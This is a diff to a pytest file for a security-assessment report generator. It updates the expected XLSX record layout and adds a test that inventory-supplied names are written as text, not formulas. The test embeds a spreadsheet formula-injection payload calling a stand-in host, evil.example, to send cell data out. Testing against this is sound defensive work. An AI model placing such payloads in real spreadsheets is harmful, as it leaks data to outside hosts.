@@ -27,7 +27,7 @@ def run(tmp_path_factory):
 
 def test_every_format_is_written_with_its_name(run):
     run_dir, _doc, files = run
-    assert sorted(files) == sorted(["report.html", "record.xlsx", "report.md", "report.json", "report.junit.xml",
+    assert sorted(files) == sorted(["report.html", "record.xlsx", "report.docx", "report.md", "report.json", "report.junit.xml",
                                     "report.oscal.json", "report.en.html", "report.en.md", "record.en.xlsx"])
     assert not list(run_dir.glob(".*.tmp"))
 
@@ -83,24 +83,52 @@ def test_xlsx_record_layout(run):
     _run_dir, doc, files = run
     wb = openpyxl.load_workbook(files["record.xlsx"], read_only=True)
     with_results = [o["id"] for o in doc["objects"] if any(r["object"] == o["id"] for r in doc["results"])]
-    assert wb.sheetnames == with_results + ["结论与整改"]
+    assert wb.sheetnames == ["汇总"] + with_results + ["结论与整改"]
     ws = wb["linux-000"]
     rows = list(ws.iter_rows(values_only=True))
-    assert rows[0][0] == "IP / 版本" and "10.0.0.0" in rows[0][1]
-    assert rows[1][:6] == ("扩展标准", "控制点", "测评项", "结果记录", "符合情况", "分值")
+    assert rows[2][0] == "IP / 版本 / 用途" and "10.0.0.0" in rows[2][3]
+    col = {h: i for i, h in enumerate(rows[6]) if h}
+    assert [h for h in rows[6] if h][:7] == ["序号", "扩展标准", "安全类", "控制点", "测评项", "测评方法", "结果记录"]
     mine = [r for r in doc["results"] if r["object"] == "linux-000"]
-    assert len(rows) - 2 == len(mine)
-    first = rows[2]
-    assert first[0] == "安全通用要求" and first[4] in ("符合", "部分符合", "不符合", "不适用", "待核查", "无法判定")
-    assert first[5] in (1.0, 0.7, 0.4) and first[7] == mine[0]["item"]
-    checked = next(r for r, m in zip(rows[2:], mine, strict=True) if m["checks"])
-    assert checked[3].startswith("经核查，") and checked[6].startswith("evidence/linux-000.json: ")
+    assert len(rows) - 7 == len(mine)
+    first = rows[7]
+    assert first[col["安全类"]] == "安全计算环境"
+    assert first[col["符合情况"]] in ("符合", "部分符合", "不符合", "不适用", "待核查", "无法判定")
+    assert first[col["权重"]] in (1.0, 0.7, 0.4) and first[col["编号"]] == mine[0]["item"]
+    checked = next(r for r, m in zip(rows[7:], mine, strict=True) if m["checks"])
+    assert checked[col["结果记录"]].startswith("经核查，") and "（证据编号：" in checked[col["结果记录"]]
     summary = [r for r in wb["结论与整改"].iter_rows(values_only=True)]
     assert next(r for r in summary if r[0] == "预测测评结论")[1] == doc["conclusion"]["conclusion_zh"]
     if not doc["coverage"]["complete"]:  # what could not be assessed comes first, right under the title
         assert summary[1][0] == "评估范围不完整" and "未评估" in summary[1][1]
     en = openpyxl.load_workbook(files["record.en.xlsx"], read_only=True)
-    assert list(en["linux-000"].iter_rows(values_only=True))[1][3] == "Record"
+    assert "Record" in list(en["linux-000"].iter_rows(values_only=True))[6]
+
+
+def test_xlsx_record_writes_text_as_text_never_as_formulas(run, tmp_path):
+    """Object names and ids come from the inventory: `=HYPERLINK(...)` must not become a live formula."""
+    import copy
+    import shutil
+    import zipfile
+
+    openpyxl = pytest.importorskip("openpyxl")
+    _run_dir, doc, _files = run
+    doc = copy.deepcopy(doc)
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    doc["objects"][0].update(address="", name=hostile)
+    doc["remediation"][0]["objects"] = ["=1+1"]
+    run_dir = shutil.copytree(_run_dir, tmp_path / "run")
+    (path,) = reports.render(doc, run_dir, ["xlsx"])
+    with zipfile.ZipFile(path) as z:
+        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
+    assert not any("<f>" in s or "<f " in s for s in sheets)
+    wb = openpyxl.load_workbook(path)
+    every = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+    named = [c for c in every if hostile in c.value]  # the object's name, in its sheet's header block
+    assert named and all(c.data_type == "s" for c in named)
+    assert all(c.quotePrefix for c in named if c.value.startswith("="))
+    cells = [c for c in every if c.value == "=1+1"]
+    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
 
 
 def test_markdown_sections(run):
